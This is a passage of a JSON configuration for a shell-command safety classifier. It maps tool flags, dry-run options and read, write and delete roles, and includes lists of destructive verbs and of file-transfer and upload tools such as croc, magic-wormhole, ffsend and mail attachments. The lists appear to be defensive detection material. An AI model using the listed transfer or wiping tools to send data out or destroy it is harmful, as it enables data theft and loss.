"workspace","registry","tag","otp","access","scope","userconfig","loglevel","cache"]},"pnpm":{"short":"CF","long":["dir","filter","registry","tag","otp"]},"yarn\
":{"long":["cwd","registry","tag"]},"cargo":{"short":"pFZj","long":["manifest-path","package","features","target","target-dir","token","registry","color","jobs"\
]},"twine":{"short":"urp","long":["username","password","repository","repository-url","config-file"]},"pip":{"short":"ir","long":["index-url","extra-index-url",\
"target","prefix"]},"sed":{"short":"efl","long":["expression","file"]},"grep":{"short":"efmABCdD","long":["regexp","file","max-count","include","exclude","exclu\
de-dir","context","color","label"]},"rg":{"short":"efgtTmABCjr","long":["regexp","file","glob","type","max-count","context","replace"]},"awk":{"short":"vfF"},"j\
q":{"long":["indent"]},"tar":{"short":"fCTXI","long":["file","directory","files-from","exclude","exclude-from","use-compress-program","transform"]},"zip":{"shor\
t":"xiPt"},"unzip":{"short":"dxP"},"head":{"short":"nc","long":["lines","bytes"]},"tail":{"short":"nc","long":["lines","bytes","pid"]},"cut":{"short":"dfcb","lo\
ng":["delimiter","fields","characters","bytes"]},"sort":{"short":"koStT","long":["key","output","field-separator"]},"base64":{"short":"w","long":["wrap"]},"xxd"\
:{"short":"lscg"},"od":{"short":"AtNjw"},"split":{"short":"bnla"},"truncate":{"short":"sr","long":["size","reference"]},"cp":{"short":"tS","long":["target-direc\
tory","suffix"]},"mv":{"short":"tS","long":["target-directory","suffix"]},"ln":{"short":"tS","long":["target-directory","suffix"]},"install":{"short":"mogtS","l\
ong":["mode","owner","group","target-directory","suffix"]},"shred":{"short":"ns","long":["iterations","size","random-source"]},"chmod":{"long":["reference"]},"c\
hown":{"long":["reference","from"]},"kill":{"long":["s"],"single":true},"pkill":{"short":"gGPtuUF","long":["signal","parent","euid","uid","group","pgroup","sess\
ion","terminal"],"whole":"signal"},"killall":{"short":"suoyn","long":["signal","user"],"whole":"signal"},"skill":{"short":"tucp","whole":"signal"},"pgrep":{"sho\
rt":"gGPtuUFds","long":["delimiter","parent","euid","uid","group","pgroup","session","terminal","pidfile"],"whole":"signal"},"pidof":{"short":"oS"},"start-stop-\
daemon":{"short":"xpnusaNRcgrdIkTO","long":["exec","pidfile","name","user","signal","startas","nicelevel","retry","chuid","group","chroot","chdir"]},"useradd":{\
"short":"bcdefgGkKpsuR","long":["groups","gid","shell","home-dir","password","uid","comment"]},"usermod":{"short":"cdefgGlpsuR","long":["groups","gid","shell","\
home","login","password","uid"]},"systemctl":{"short":"tHMps","long":["host","machine","type","state","signal","kill-who"]},"mount":{"short":"toLU","long":["typ\
es","options","bind"]},"mkfs":{"short":"tLbN"},"crontab":{"short":"u"},"xargs":{"short":"IndPLsEa"},"gpg":{"short":"oru","long":["output","recipient","local-use\
r","passphrase","batch-file"]},"mail":{"short":"sacbrA","long":["subject","attach"]},"mailx":{"short":"sacbrA","long":["subject","attach"]},"s-nail":{"short":"s\
acbrA","long":["subject","attach"]},"mutt":{"short":"sacbeFi"},"neomutt":{"short":"sacbeFi"},"certutil":{"short":"dntis"},"osascript":{"short":"el"},"ping":{"sh\
ort":"cpisWIt"},"fallocate":{"short":"lo","long":["length","offset"]},"gdb":{"short":"pcx","long":["pid","core","ex","eval-command","command","ix"],"single":tru\
e},"strace":{"short":"peosaPuEI"},"ltrace":{"short":"peosaPuEI"},"ansible":{"short":"aimMulefbt","long":["args","inventory","module-name","user","limit","extra-\
vars"]},"rclone":{"short":"f","long":["config","transfers","filter"]},"restic":{"short":"rpolHdwmyg","long":["repo","password-file","option","host","tag","keep-\
last","keep-tag"]},"borg":{"short":"PaeCcdwmyHo","long":["prefix","glob-archives","exclude","keep-daily","keep-weekly","keep-monthly","keep-last"]},"make":{"sho\
rt":"CfIjloWEO","long":["directory","file","makefile","include-dir","old-file","what-if","eval"]},"gsutil rsync":{"short":"x"},"semantic-release":{"short":"brtp\
e","long":["branches","repository-url","tag-format","plugins","extends"]},"release-it":{"short":"ic","long":["increment","config"]},"etcdctl":{"long":["endpoint\
s","user","cacert","cert","key"]},"nats":{"short":"s","long":["server","user","password","context","creds"]},"rabbitmqadmin":{"short":"HPVupcN","long":["host","\
port","vhost","username","password","config","node"]},"celery":{"short":"AbQ","long":["app","broker","queues"]},"mke2fs":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkf\
s.ext2":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkfs.ext3":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"mkfs.ext4":{"short":"bCdeEfgGiIJLmMNoOrtTUz"},"iptables":{"short":"tp\
sdjio","long":["table","protocol","source","destination","jump","dport","sport"]},"client":{"short":"acCgnpotT","long":["app","account","api-key","api-url","bra\
nch","cluster","config","context","email","endpoint","env","environment","format","group","host","hostname","id","key","namespace","org","organization","output"\
,"owner","password","path","port","profile","project","query","region","repo","repository","resource-group","role","scope","server","service","site","space","st\
ack","stage","store","subscription","team","template","timeout","token","url","user","username","version","workspace","zone"]}},"aliases":{"egrep":"grep","fgrep\
":"grep","ggrep":"grep","gsed":"sed","gawk":"awk","mawk":"awk","bsdtar":"tar","gtar":"tar","k":"kubectl","mariadb":"mysql","mongo":"mongosh","https":"http","tof\
u":"terraform","pip3":"pip","gmake":"make","bao":"vault"},"git_options":{"apply":["exclude","include","stat","binary","numstat","summary","check","index","inten\
t-to-add","cached","unsafe-paths","apply","3way","whitespace","ignore-space-change","ignore-whitespace","reverse","unidiff-zero","reject","allow-overlap","verbo\
se","quiet","recount","directory","allow-empty"],"branch":["verbose","quiet","track","set-upstream-to","unset-upstream","color","remotes","contains","with","wit\
hout","abbrev","all","delete","move","copy","list","show-current","create-reflog","edit-description","force","merged","column","sort","points-at","ignore-case",\
"recurse-submodules","format"],"checkout":["guess","overlay","quiet","recurse-submodules","progress","merge","conflict","detach","track","force","orphan","overw\
rite-ignore","ignore-other-worktrees","ours","theirs","patch","ignore-skip-worktree-bits","pathspec-from-file","pathspec-file-nul"],"checkout-index":["all","ign\
ore-skip-worktree-bits","force","quiet","index","stdin","temp","prefix","stage","create"],"clean":["quiet","dry-run","force","interactive","exclude"],"push":["v\
erbose","quiet","repo","all","mirror","delete","tags","dry-run","porcelain","force","force-with-lease","force-if-includes","recurse-submodules","thin","receive-\
pack","exec","set-upstream","progress","prune","follow-tags","signed","atomic","push-option","ipv4","ipv6","verify"],"read-tree":["index-output","empty","verbos\
e","trivial","aggressive","reset","prefix","exclude-per-directory","dry-run","debug-unpack","recurse-submodules","quiet","sparse-checkout"],"reset":["quiet","mi\
xed","soft","hard","merge","keep","recurse-submodules","patch","intent-to-add","pathspec-from-file","pathspec-file-nul","refresh"],"restore":["source","staged",\
"worktree","ignore-unmerged","overlay","quiet","recurse-submodules","progress","merge","conflict","ours","theirs","patch","ignore-skip-worktree-bits","pathspec-\
from-file","pathspec-file-nul"],"rm":["dry-run","quiet","cached","force","ignore-unmatch","sparse","pathspec-from-file","pathspec-file-nul"],"switch":["create",\
"force-create","guess","discard-changes","quiet","recurse-submodules","progress","merge","conflict","detach","track","force","orphan","overwrite-ignore","ignore\
-other-worktrees"]},"dry_runs":{"git push":{"flags":["-n","--dry-run"]},"git clean":{"flags":["-n","--dry-run"]},"git rm":{"flags":["-n","--dry-run"]},"git mv":\
{"flags":["-n","--dry-run"]},"git add":{"flags":["-n","--dry-run"]},"git prune":{"flags":["-n","--dry-run"]},"git read-tree":{"flags":["-n","--dry-run"]},"git r\
eflog expire":{"flags":["-n","--dry-run"]},"git reflog delete":{"flags":["-n","--dry-run"]},"git worktree prune":{"flags":["-n","--dry-run"]},"git remote prune"\
:{"flags":["-n","--dry-run"]},"git notes prune":{"flags":["-n","--dry-run"]},"rsync":{"flags":["-n","--dry-run"]},"rclone":{"flags":["-n","--dry-run"]},"restic \
forget":{"flags":["-n","--dry-run"]},"restic prune":{"flags":["-n","--dry-run"]},"restic backup":{"flags":["-n","--dry-run"]},"restic rewrite":{"flags":["-n","-\
-dry-run"]},"borg delete":{"flags":["-n","--dry-run"]},"borg prune":{"flags":["-n","--dry-run"]},"borg create":{"flags":["-n","--dry-run"]},"borg extract":{"fla\
gs":["-n","--dry-run"]},"s3cmd":{"flags":["-n","--dry-run"]},"cargo publish":{"flags":["-n","--dry-run"]},"git commit":{"flags":["--dry-run"]},"git fetch":{"fla\
gs":["--dry-run"]},"git pull":{"flags":["--dry-run"]},"git send-pack":{"flags":["--dry-run"]},"git filter-repo":{"flags":["--dry-run"]},"duplicity":{"flags":["-\
-dry-run"]},"pgbackrest expire":{"flags":["--dry-run"]},"gcloud storage":{"flags":["--dry-run"]},"s5cmd":{"flags":["--dry-run"]},"azcopy":{"flags":["--dry-run"]\
},"b2 sync":{"flags":["--dry-run"]},"mc mirror":{"flags":["--dry-run"]},"kubectl":{"flags":["--dry-run"]},"oc":{"flags":["--dry-run"]},"helm":{"flags":["--dry-r\
un"]},"docker compose":{"flags":["--dry-run"]},"docker-compose":{"flags":["--dry-run"]},"podman-compose":{"flags":["--dry-run"]},"npm publish":{"flags":["--dry-\
run"]},"npm unpublish":{"flags":["--dry-run"]},"pnpm publish":{"flags":["--dry-run"]},"yarn publish":{"flags":["--dry-run"]},"yarn npm publish":{"flags":["--dry\
-run"]},"bun publish":{"flags":["--dry-run"]},"npm pub":{"flags":["--dry-run"]},"npm stage publish":{"flags":["--dry-run"]},"deno publish":{"flags":["--dry-run"\
]},"jsr publish":{"flags":["--dry-run"]},"rush publish":{"flags":["--dry-run"]},"nx release":{"flags":["--dry-run"]},"auto shipit":{"flags":["--dry-run"]},"poet\
ry publish":{"flags":["--dry-run"]},"uv publish":{"flags":["--dry-run"]},"flutter pub publish":{"flags":["--dry-run"]},"dart pub publish":{"flags":["--dry-run"]\
},"goreleaser release":{"flags":["--dry-run"]},"systemctl poweroff":{"flags":["--dry-run"]},"systemctl reboot":{"flags":["--dry-run"]},"systemctl halt":{"flags"\
:["--dry-run"]},"systemctl kexec":{"flags":["--dry-run"]},"client":{"flags":["--dry-run","--dryrun","--what-if","--preview-only"]},"aws":{"flags":["--dry-run","\
--generate-cli-skeleton"]},"apt-get":{"flags":["-s","--simulate","--just-print","--dry-run","--recon","--no-act"]},"apt":{"flags":["-s","--simulate","--just-pri\
nt","--dry-run","--recon","--no-act"]},"aptitude":{"flags":["-s","--simulate","--just-print","--dry-run","--recon","--no-act"]},"dnf":{"flags":["--assumeno","--\
downloadonly"]},"yum":{"flags":["--assumeno","--downloadonly"]},"microdnf":{"flags":["--assumeno","--downloadonly"]},"modprobe":{"flags":["-n","--dry-run","--sh\
ow"]},"pacman":{"flags":["-p","--print"]},"yay":{"flags":["-p","--print"]},"paru":{"flags":["-p","--print"]},"hg purge":{"flags":["-p","--print"]},"hg clean":{"\
flags":["-p","--print"]},"p4 clean":{"flags":["-n","-a"]},"p4 revert":{"flags":["-n","-a"]},"fossil clean":{"flags":["--dry-run","-n","--help"]},"fossil revert"\
:{"flags":["--dry-run","-n","--help"]},"darcs revert":{"flags":["--dry-run","-n","--help"]},"darcs obliterate":{"flags":["--dry-run","-n","--help"]},"git apply"\
:{"flags":["--check","--stat","--numstat","--summary"]},"make":{"flags":["-n","--dry-run","--just-print","--recon"]},"gmake":{"flags":["-n","--dry-run","--just-\
print","--recon"]},"duplicacy prune":{"flags":["-dry-run"]},"zfs destroy":{"flags":["-n"]},"mke2fs":{"flags":["-n"]},"mkfs.ext2":{"flags":["-n"]},"mkfs.ext3":{"\
flags":["-n"]},"mkfs.ext4":{"flags":["-n"]},"gsutil rsync":{"flags":["-n"]},"aws s3":{"flags":["--dryrun"]},"ansible":{"flags":["--check","-C","--syntax-check",\
"--list-hosts","--list-tasks","--list-tags"]},"ansible-playbook":{"flags":["--check","-C","--syntax-check","--list-hosts","--list-tasks","--list-tags"]},"semant\
ic-release":{"flags":["-d","--dry-run"]},"release-it":{"flags":["-d","--dry-run"]},"pulumi destroy":{"flags":["--preview-only"]},"pulumi up":{"flags":["--previe\
w-only"]},"pulumi update":{"flags":["--preview-only"]}},"switches":["--force","--force-with-lease","--delete","--delete-before","--delete-after","--delete-durin\
g","--delete-excluded","--del","--archive","--recursive","--verbose","--quiet","--all","--mirror","--tags","--follow-tags","--prune","--yes","--no-verify","--at\
omic","--set-upstream","--allow-dirty","--interactive","--list","--checksum","--update","--compress","--partial","--inplace","--ignore-not-found","--now","--wor\
kspace","--workspaces","--ignore-daemonsets","--delete-emptydir-data","--include-dependencies","--no-color","--debug","--volumes","--remove-orphans","--cascade"\
,"--wait","--provenance","--no-git-checks","--stats","--progress","--keep-history","--dry-run","--build","--dryrun","--size-only","--exact-timestamps","--only-s\
how-errors","--no-progress","--follow-symlinks","--no-follow-symlinks"],"help":{"leading":["rm","rmdir","unlink","shred","srm","chmod","chown","chgrp","chflags"\
,"chattr","mv","cp","ln","truncate"],"none":["kill","eval","exec","find","dd","echo","printf","sh","bash","dash","zsh","ksh","python","node","perl","ruby","php"\
,"source",".","xargs","env","sudo"],"verbs":["git","hg","svn","jj","npm","pnpm","yarn","bun","deno","npx","cargo","rustup","go","pip","poetry","uv","hatch","pdm\
","gem","bundle","mix","composer","dotnet","brew","docker","podman","nerdctl","docker-compose","kubectl","oc","helm","kind","k3d","minikube","terraform","tofu",\
"terragrunt","gsutil","bq","rclone","restic","borg","kopia","goreleaser","zfs","zpool","btrfs","cryptsetup","systemctl","rails","artisan"],"one_dash":["terrafor\
m","tofu","terragrunt","packer","vault","bao","consul","nomad","go","java","ffmpeg","openssl","find","gradle","ant"]},"roles":{"cat":{"each":"reads"},"tac":{"ea\
ch":"reads"},"nl":{"each":"reads"},"head":{"each":"reads"},"tail":{"each":"reads"},"less":{"each":"reads"},"more":{"each":"reads"},"most":{"each":"reads"},"bat"\
:{"each":"reads"},"batcat":{"each":"reads"},"view":{"each":"reads"},"xxd":{"each":"reads"},"hexdump":{"each":"reads"},"hd":{"each":"reads"},"od":{"each":"reads"\
},"strings":{"each":"reads"},"base64":{"each":"reads"},"base32":{"each":"reads"},"basenc":{"each":"reads"},"rev":{"each":"reads"},"uniq":{"each":"reads"},"cut":\
{"each":"reads"},"paste":{"each":"reads"},"join":{"each":"reads"},"fold":{"each":"reads"},"fmt":{"each":"reads"},"pr":{"each":"reads"},"column":{"each":"reads"}\
,"expand":{"each":"reads"},"comm":{"each":"reads"},"diff":{"each":"reads"},"colordiff":{"each":"reads"},"cmp":{"each":"reads"},"sdiff":{"each":"reads"},"vimdiff\
":{"each":"reads"},"delta":{"each":"reads"},"gzip":{"each":"reads"},"bzip2":{"each":"reads"},"xz":{"each":"reads"},"zstd":{"each":"reads"},"gunzip":{"each":"rea\
ds"},"zcat":{"each":"reads"},"bzcat":{"each":"reads"},"xzcat":{"each":"reads"},"uuencode":{"each":"reads"},"split":{"each":"reads"},"csplit":{"each":"reads"},"l\
ook":{"each":"reads"},"source":{"each":"reads"},".":{"each":"reads"},"pandoc":{"each":"reads"},"highlight":{"each":"reads"},"glow":{"each":"reads"},"xclip":{"ea\
ch":"reads"},"pbcopy":{"each":"reads"},"dotenv":{"each":"reads"},"sops":{"each":"reads"},"age":{"each":"reads"},"shuf":{"each":"reads"},"iconv":{"each":"reads"}\
,"dos2unix":{"each":"reads"},"ccat":{"each":"reads"},"mdcat":{"each":"reads"},"lolcat":{"each":"reads"},"open":{"each":"reads"},"xdg-open":{"each":"reads"},"kca\
t":{"each":"reads"},"hexyl":{"each":"reads"},"jless":{"each":"reads"},"fx":{"each":"reads"},"yq":{"each":"reads"},"tomlq":{"each":"reads"},"xq":{"each":"reads"}\
,"dasel":{"each":"reads"},"plutil":{"each":"reads"},"rclone":{"each":"reads"},"python3-dotenv":{"each":"reads"},"ssh-keygen":{"each":"reads"},"json.tool":{"each\
":"reads"},"awk":{"each":"reads"},"gawk":{"each":"reads"},"mawk":{"each":"reads"},"nawk":{"each":"reads"},"sqlite3":{"each":"reads"},"sqlite":{"each":"reads"},"\
duckdb":{"each":"reads"},"git add":{"each":"reads"},"git hash-object":{"each":"reads"},"git diff":{"each":"reads"},"git show":{"each":"reads"},"git blame":{"eac\
h":"reads"},"mail":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"mailx":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i"\
:"reads"}},"s-nail":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"mutt":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i"\
:"reads"}},"neomutt":{"options":{"-a":"reads","-A":"reads","--attach":"reads","-i":"reads"}},"croc send":{"each":"reads"},"wormhole send":{"each":"reads"},"magi\
c-wormhole send":{"each":"reads"},"ffsend upload":{"each":"reads"},"sendme send":{"each":"reads"},"gh gist":{"each":"reads"},"sort":{"each":"reads","options":{"\
-o":"writes","--output":"writes"}},"grep":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","\
--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"egrep":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"option\
s":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"fgrep":{"each":"reads","skip":1,"unless":["-e","-f","--\
regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"rg":{"each":"reads",\
"skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file"\
:"reads"}},"ag":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--includ\
e":"reads","-f":"reads","--file":"reads"}},"ack":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"r\
eads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"zgrep":{"each":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],\
"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"ugrep":{"each":"reads","skip":1,"unless":["-e","\
-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads","--file":"reads"}},"ggrep":{"each\
":"reads","skip":1,"unless":["-e","-f","--regexp","--file","--files"],"options":{"-g":"reads","--glob":"reads","--iglob":"reads","--include":"reads","-f":"reads\
","--file":"reads"}},"jq":{"each":"reads","skip":1,"unless":["-f","--from-file"],"options":{"--slurpfile":"reads","--rawfile":"reads"}},"sed":{"each":"reads","s\
kip":1,"unless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"gsed":{"each":"reads","skip":1,"u\
nless":["-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"perl":{"each":"reads","skip":1,"unless":["\
-e","-f","--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"ruby":{"each":"reads","skip":1,"unless":["-e","-f",\
"--expression","-pe","-ne"],"with":[{"flags":["-i","--in-place","-pi","-i.bak"],"each":"writes"}]},"vi":{"each":"writes"},"vim":{"each":"writes"},"nvim":{"each"\
:"writes"},"nano":{"each":"writes"},"emacs":{"each":"writes"},"code":{"each":"writes"},"subl":{"each":"writes"},"ed":{"each":"writes"},"ex":{"each":"writes"},"p\
ico":{"each":"writes"},"micro":{"each":"writes"},"gedit":{"each":"writes"},"kate":{"each":"writes"},"joe":{"each":"writes"},"mcedit":{"each":"writes"},"helix":{\
"each":"writes"},"hx":{"each":"writes"},"visudo":{"each":"writes"},"sponge":{"each":"writes"},"tee":{"each":"writes"},"truncate":{"each":"writes"},"mkfifo":{"ea\
ch":"writes"},"patch":{"each":"writes"},"git checkout":{"each":"writes"},"rm":{"each":"deletes"},"unlink":{"each":"deletes"},"shred":{"each":"deletes"},"srm":{"\
each":"deletes"},"wipe":{"each":"deletes"},"trash":{"each":"deletes"},"trash-put":{"each":"deletes"},"rimraf":{"each":"deletes"},"del":{"each":"deletes"},"del-c\
li":{"each":"deletes"},"rimraf-cli":{"each":"deletes"},"erase":{"each":"deletes"},"rd":{"each":"deletes"},"remove-item":{"each":"deletes"},"cp":{"each":"reads",\
"last":"writes","options":{"-t":"writes","--target-directory":"writes"},"with":[{"flags":["-n","--no-clobber"],"each":"none"}]},"mv":{"each":"moves","last":"wri\
tes","options":{"-t":"writes","--target-directory":"writes"}},"install":{"each":"reads","last":"writes","options":{"-t":"writes","--target-directory":"writes"},\
"with":[{"flags":["-d","--directory"],"each":"none"}]},"ln":{"each":"reads","last":"writes","options":{"-t":"writes","--target-directory":"writes"}},"kubectl":{\
"options":{"--from-file":"reads","--from-env-file":"reads"}},"oc":{"options":{"--from-file":"reads","--from-env-file":"reads"}},"scp":{"each":"reads","last":"wr\
ites"},"rsync":{"each":"reads","last":"writes"},"docker cp":{"each":"reads","last":"writes"},"kubectl cp":{"each":"reads","last":"writes"},"podman cp":{"each":"\
reads","last":"writes"},"gsutil cp":{"each":"reads","last":"writes"},"zip":{"each":"reads","skip":1,"with":[{"flags":["-m","--move"],"each":"moves"}]},"git log"\
:{"with":[{"flags":["-p","--patch","-u"],"each":"reads"}]},"dd":{"keyed":{"if=":"reads","of=":"writes"}},"dcfldd":{"keyed":{"if=":"reads","of=":"writes"}},"dc3d\
d":{"keyed":{"if=":"reads","of=":"writes"}},"ddrescue":{"keyed":{"if=":"reads","of=":"writes"}},"fdupes":{"each":"changes"},"jdupes":{"each":"changes"},"rdfind"\
:{"each":"changes"},"ditto":{"each":"reads","last":"writes"},"restic backup":{"each":"reads","skip":1},"setfacl":{"each":"changes"},"chown":{"each":"changes","s\
kip":1,"unless":["--reference"]},"chgrp":{"each":"changes","skip":1,"unless":["--reference"]},"chcon":{"each":"changes","skip":1,"unless":["--reference"]},"chmo\
d":{"each":"changes","skip":1,"unless":["--reference","-x","-w","-s","-t","-a","-i"]},"chattr":{"each":"changes","skip":1,"unless":["--reference","-x","-w","-s"\
,"-t","-a","-i"]},"tar":{"each":"reads","options":{"-C":"writes"},"with":[{"flags":["--remove-files"],"each":"deletes"},{"flags":["-x","-t","--extract","--list"\
,"--get","-xf","-tf"],"each":"none"}]},"7z":{"each":"reads","skip":1},"7za":{"each":"reads","skip":1},"rar":{"each":"reads","skip":1},"git cat-file":{"each":"re\
ads","skip":1},"git grep":{"each":"reads","skip":1},"curl":{"options":{"-o":"writes","--output":"writes","-T":"reads","--upload-file":"reads","-K":"reads","--co\
nfig":"reads"}},"wget":{"options":{"-O":"writes","--output-document":"writes","--post-file":"reads","--body-file":"reads"}},"openssl":{"options":{"-in":"reads"}\
},"ab":{"options":{"-p":"reads","-u":"reads"}},"openssl x509":{},"openssl crl":{},"openssl verify":{},"openssl s_client":{},"busybox":{},"gpg":{"each":"reads","\
with":[{"flags":["--list-keys","--list-secret-keys","-k","-K"],"each":"none"}]},"aws s3":{"each":"reads","last":"writes","skip":1},"gcloud storage":{"each":"rea\
ds","last":"writes","skip":1},"az storage":{"options":{"--file":"reads","-f":"reads"}},"unzip":{"options":{"-d":"writes"},"with":[{"flags":["-p"],"each":"reads"\
}]},"http.server":{"options":{"--directory":"reads","-d":"reads"}},"b2 upload-file":{"each":"reads"},"b2 file":{"each":"reads"},"s3cmd put":{"each":"reads"},"s3\
cmd sync":{"each":"reads"},"s5cmd cp":{"each":"reads"},"gdrive upload":{"each":"reads"},"uplink cp":{"each":"reads"},"mc cp":{"each":"reads"},"azcopy copy":{"ea\
ch":"reads"},"megaput":{"each":"reads"},"gh release":{"each":"reads","skip":2},"git restore":{"each":"writes","with":[{"flags":["--staged","-S"],"each":"none"}]\
},"git clean":{"each":"changes"},"git mv":{"each":"moves","last":"writes"},"git rm":{"each":"moves","with":[{"flags":["--cached"],"each":"none"}]},"mysqldump":{\
"options":{"--result-file":"writes","-r":"writes"}},"ssh":{"options":{"-F":"reads"}}}},"clients":{"creations":{"git":{"destroys":"^(?:branch -q? ?-?[dD]|branch \
--delete|tag -d|worktree remove(?: -f| --force)?) (\\\\S+)$","maker":"git","makes":"^(?:branch|tag(?: -a)?|worktree add(?: --detach| -f| --force| -q| -b \\\\S+)*|ch\
eckout(?: -q)? -q?b|switch(?: -q)? -q?c) (?!-)(\\\\S+)(?: (?!-)\\\\S+| -m .*)?$"},"dropdb":{"destroys":"^(\\\\S+)$","maker":"createdb","makes":"^(\\\\S+)$"},"sql":{"des\
troys":"^drop-(?:database|schema) (\\\\S+)$","maker":"sql","makes":"^create (\\\\S+)$"},"kubectl":{"destroys":"^delete (?:ns|namespace) (\\\\S+)$","maker":"kubectl","\
makes":"^create (?:ns|namespace) (\\\\S+)$"},"kind":{"destroys":"^delete cluster (\\\\S+)$","maker":"kind","makes":"^create cluster (\\\\S+)(?: \\\\S+)*$"},"k3d":{"dest\
roys":"^cluster delete (\\\\S+)$","maker":"k3d","makes":"^cluster create (\\\\S+)(?: \\\\S+)*$"}},"words":{"destroys":["delete","del","destroy","remove","rm","rmi","r\
mdir","purge","terminate","drop","wipe","prune","teardown","tear-down","erase","nuke","unregister","deregister","decommission","deprovision","undeploy","unpubli\
sh","revoke","reset","clear","uninstall","unset","unsubscribe","trash","empty","shred","obliterate","dismantle","deletion","permanent-delete","close-account","l\
eave-organization"],"others":["run-","submit-","execute-","tag-","describe-","list-","get-","put-","create-","update-","add-","set-","start-","show-","search-",\
"query-","modify-","head-","copy-","import-","export-","attach-","enable-","register-","associate-","send-","publish-","invoke-","test-","filter-","lookup-","es\
timate-","validate-","list","ls","show","get","describe","status","check","view","info","inspect","logs","log","diff","plan","validate","lint","verify","version\
","help","completion","create","add","new","init","set","put","update","edit","patch","apply","deploy","up","start","restart","run","exec","execute","ssh","open\
","login","logout","import","export","pull","push","clone","sync","copy","cp","mv","move","scale","tail","follow","watch","wait","serve","dev","build","test","p\
ublish","pub","subscribe","sub","send","enqueue","produce","consume","query","search","find","select","use","switch","connect","attach","invoke","call","trigger\
","generate","gen","migrate","rollback","promote","upload","download","cat","head","stat","whoami","enable","tag","label","annotate","rename","restore","fork","\
merge","approve","comment","close","reopen","retry","rerun","cancel","pause","resume","top","ps","events","history","tree","explain","render","template","previe\
w","print","dump","read","write","unseal","seal","tunnel","proxy","port-forward","checkout","link","lookup","search-replace","scaffold","make","seed","co","brow\
se","checkout"],"local":["cache","caches","config","configs","configuration","configurations","context","contexts","profile","profiles","plugin","plugins","alia\
s","aliases","extension","extensions","telemetry","emulator","emulators","completion","auth","history","krew","transient","session","sessions","settings"],"proj\
ect":["magento","drush","drupal","wp","typo3","n98-magerun2","moosh"]},"own":{"endpoints":["endpoint-url","endpoint","endpoints","address","addr","server","api-\
url","s","AWS_ENDPOINT_URL","VAULT_ADDR","NOMAD_ADDR","CONSUL_HTTP_ADDR","ETCDCTL_ENDPOINTS","connection-string"],"environments":["RAILS_ENV","RACK_ENV","HANAMI\
_ENV","NODE_ENV","APP_ENV","DJANGO_ENV","DJANGO_SETTINGS_MODULE","FLASK_ENV","MIX_ENV","SYMFONY_ENV","ADONIS_ENV","env","environment","settings"],"stages":["tes\
t","testing","*.test","*.test.*","*.testing","*.settings_test","*.test_settings","*.tests.settings"],"databases":["d","D","dbname","database"],"addresses":["url\
","DATABASE_URL","DB_URL"]},"clients":{"aws":{"nouns":["logs","config","deploy","events","connect","session","sessions"],"spares":["configure"],"words":2},"gclo\
ud":{"verbs":["reset-windows-password"],"nouns":["run","deploy","builds","logs","logging","events","config","contexts"],"spares":["config unset","config configu\
rations delete","auth revoke","components remove"]},"az":{"verbs":["deallocate"],"nouns":["events","config"],"spares":["account clear","cache purge","cache dele\
te","config unset","extension remove"]},"oci":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"doctl":{"verbs":["rebuild","reinstall"],"nouns":["conf\
ig","tag"]},"hcloud":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"linode-cli":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"vultr-c\
li":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"scw":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"exo":{"verbs":["rebuild","reins\
tall"],"nouns":["config","tag"]},"ibmcloud":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"ovhai":{"verbs":["rebuild","reinstall"],"nouns":["config\
","tag"]},"ovhcloud":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"civo":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"openstack":{"\
verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"upctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"yc":{"verbs":["rebuild","reinstall"\
],"nouns":["config","tag"]},"ionosctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"gridscale":{"verbs":["rebuild","reinstall"],"nouns":["config"\
,"tag"]},"stackit":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"aliyun":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"tccli":{"verb\
s":["rebuild","reinstall"],"nouns":["config","tag"]},"runpodctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"vastai":{"verbs":["rebuild","reinst\
all"],"nouns":["config","tag"]},"cherryctl":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"paperspace":{"verbs":["rebuild","reinstall"],"nouns":["c\
onfig","tag"]},"nova":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"ecs-cli":{"verbs":["rebuild","reinstall"],"nouns":["config","tag"]},"copilot":\
